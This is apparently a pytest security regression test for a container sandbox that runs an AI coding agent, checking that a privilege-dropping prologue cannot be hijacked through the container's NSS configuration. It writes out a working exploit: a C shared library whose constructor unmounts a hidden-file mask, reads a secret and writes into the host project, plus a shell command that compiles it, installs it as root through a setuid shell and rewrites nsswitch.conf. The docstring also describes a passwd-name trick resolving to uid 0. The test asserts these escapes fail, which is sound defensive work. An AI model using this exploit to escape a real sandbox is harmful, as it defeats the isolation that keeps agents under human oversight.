"""Attack pass 8: the volume prologue's setpriv reads the container's NSS files before it drops
CAP_SYS_ADMIN.

enter.sh runs every call of a volume-mode container as root through the read-only prologue
(``ld.so --inhibit-cache --library-path /.ws-prologue setpriv --bounding-set -sys_admin --reuid U
--regid G --groups ...``). The loader and setpriv's libraries are the prologue's, but setpriv
parses ``--reuid``/``--regid``/``--groups`` with ``getpwnam``/``getgrnam`` first (util-linux
``get_user``/``get_group``: a name, else a number), so glibc's NSS reads the container's
``/etc/nsswitch.conf`` and ``dlopen``s ``libnss_<service>.so.2`` from the container's
``/lib``: code of the container's, run as root with the full bounding set, CAP_SYS_ADMIN
included, before the drop. A call that is root once (sudo in a devcontainer, here a setuid
copy of bash, as in test_volume_setuid_caps.py; the drop left it without CAP_SYS_ADMIN) plants
an NSS module; the next call of the ordinary caller runs it with the capability: it unmounts
the hide mask, reads the hidden file and writes the real project. Even without a module, a
``/etc/passwd`` line ``1001:x:0:0::/:/bin/sh`` (a user *named* "1001") makes ``--reuid 1001``
resolve to uid 0: the call picks its own uid (and ``/etc/group`` its groups).
Only where the caller is not root (docker as an ordinary user, rootless podman's keep-id); as
root the test holds the calls to the same rule (the module runs, in a call, without it).
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from tests.engines.conftest import engine_name  # noqa: F401 - the fixture
from tests.security.test_volume_setuid_caps import hidden_secret_session
from tests.security.test_volume_setuid_caps import sudo_image  # noqa: F401 - the fixture

pytestmark = [pytest.mark.engine, pytest.mark.as_user]

EVIL_C = r'''
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void pwn(void) {
    if (open("/run/ws-calls/.nss-ran", O_CREAT | O_EXCL | O_WRONLY, 0644) < 0) return;
    system("grep CapEff /proc/self/status > /run/ws-calls/nss.out; "
           "umount /run/ws-lower/secret.env; cat /run/ws-lower/secret.env >> /run/ws-calls/nss.out; "
           "mount -o remount,bind,rw /run/ws-lower && echo escaped > /run/ws-lower/ESCAPED");
}
'''
PLANT = (f"printf %s {shlex.quote(EVIL_C)} > /tmp/evil.c && "
         "gcc -shared -fPIC -o /tmp/libnss_evil.so.2 /tmp/evil.c && "
         "rootsh -p -c 'cp /tmp/libnss_evil.so.2 /lib/x86_64-linux-gnu/ && "
         "sed -i \"s/^passwd:.*/passwd: evil files/; s/^group:.*/group: evil files/\" "
         "/etc/nsswitch.conf' && echo planted")


@pytest.mark.parametrize("engine_name", ["docker-volume", "podman-volume"], indirect=True)
def test_the_prologue_runs_no_nss_module_of_the_container(
        engine_name: str, sudo_image: str, tmp_path: Path, project: Path):  # noqa: F811
    claude = hidden_secret_session(engine_name, sudo_image, tmp_path, project)
    planted = claude.bash(PLANT)
    assert "planted" in planted.stdout, (planted.stdout, planted.stderr)
    # Any later call; its own `id` loads the module too, where it may: without the capability.
    after = claude.bash("id >/dev/null; cat /run/ws-calls/nss.out 2>/dev/null; true")
    reached = {"CAP_SYS_ADMIN": any(line.startswith("CapEff:") and int(line.split()[1], 16) & (1 << 21)
                                    for line in after.stdout.splitlines()),
               "read the hidden file": "hunter2" in after.stdout,
               "wrote the real project": (project / "ESCAPED").exists()}
    assert not any(reached.values()), (reached, after.stdout, after.stderr)
